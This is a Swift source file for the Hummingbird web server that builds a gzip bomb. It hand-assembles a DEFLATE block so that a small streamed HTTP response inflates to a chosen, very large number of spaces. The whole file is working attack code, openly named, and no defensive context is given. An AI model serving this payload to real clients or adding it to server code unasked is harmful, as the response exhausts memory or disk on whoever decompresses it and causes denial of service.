import Hummingbird

/// A gzip file (RFC 1952) of spaces that is a thousandth of what it inflates to.
///
/// One block of its own codes (RFC 1951 §3.2.7): a space, then copies of 258 bytes from one byte back that take two zero
/// bits each, then the rest as spaces.
struct GzipBomb {
  /// What it inflates to.
  let byteCount: Int

  /// The file, which is never in memory as a whole.
  var body: ResponseBody {
    let copies = max(0, byteCount - 1) / 258
    var bits = BitRow()
    Self.writeHead(to: &bits)
    bits.append(code: 0b10, count: 2)
    let padding = (8 - bits.count % 8) % 8
    let zeroBytes = max(0, copies * 2 - padding) / 8
    var start = Self.fileHead
    var zeros = copies * 2
    if zeroBytes > 0 {
      bits.append(0, count: padding)
      start += bits.bytes
      bits = BitRow()
      zeros = (zeros - padding) % 8
    }
    bits.append(0, count: zeros)
    for _ in 0..<max(0, byteCount - 1 - copies * 258) { bits.append(code: 0b10, count: 2) }
    bits.append(code: 0b11, count: 2)
    let sum = CyclicSum(repeating: UInt8(ascii: " "), count: byteCount).value
    let end = bits.bytes + Self.littleEndian(sum) + Self.littleEndian(UInt32(truncatingIfNeeded: byteCount))
    return ResponseBody { [start] writer in
      try await writer.write(ByteBuffer(bytes: start))
      var left = zeroBytes
      while left > 0 {
        let length = min(left, 1 << 16)
        try await writer.write(ByteBuffer(repeating: 0, count: length))
        left -= length
      }
      try await writer.write(ByteBuffer(bytes: end))
      try await writer.finish(nil)
    }
  }

  private static let fileHead: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]

  /// The last block, with codes of one bit for a copy of 258 bytes and for one byte back, of two for a space and the end.
  private static func writeHead(to bits: inout BitRow) {
    bits.append(1, count: 1)
    bits.append(2, count: 2)
    // 286 codes of bytes and lengths, one of distances, 18 lengths of the code that spells their lengths.
    bits.append(286 - 257, count: 5)
    bits.append(0, count: 5)
    bits.append(18 - 4, count: 4)
    // In the order 16 17 18 0 8 7 9 6 10 5 11 4 12 3 13 2 14 1: a run of zeros has one bit, 1 and 2 have two.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] { bits.append(length, count: 3) }
    func zeros(_ count: Int) {
      bits.append(code: 0, count: 1)
      bits.append(count - 11, count: 7)
    }
    zeros(32)
    bits.append(code: 0b11, count: 2)
    zeros(138)
    zeros(85)
    bits.append(code: 0b11, count: 2)
    zeros(28)
    bits.append(code: 0b10, count: 2)
    bits.append(code: 0b10, count: 2)
  }

  private static func littleEndian(_ value: UInt32) -> [UInt8] {
    [0, 8, 16, 24].map { UInt8(truncatingIfNeeded: value >> $0) }
  }
}

/// Bits in the order of RFC 1951 §3.1.1: the lowest bit of each byte first.
private struct BitRow {
  private(set) var bytes: [UInt8] = []
  private(set) var count = 0

  /// A number, its lowest bit first.
  mutating func append(_ value: Int, count: Int) {
    for place in 0..<count { append(value >> place & 1 == 1) }
  }

  /// A code, its highest bit first.
  mutating func append(code: Int, count: Int) {
    for place in (0..<count).reversed() { append(code >> place & 1 == 1) }
  }

  private mutating func append(_ bit: Bool) {
    if count % 8 == 0 { bytes.append(0) }
    if bit { bytes[bytes.count - 1] |= 1 << (count % 8) }
    count += 1
  }
}
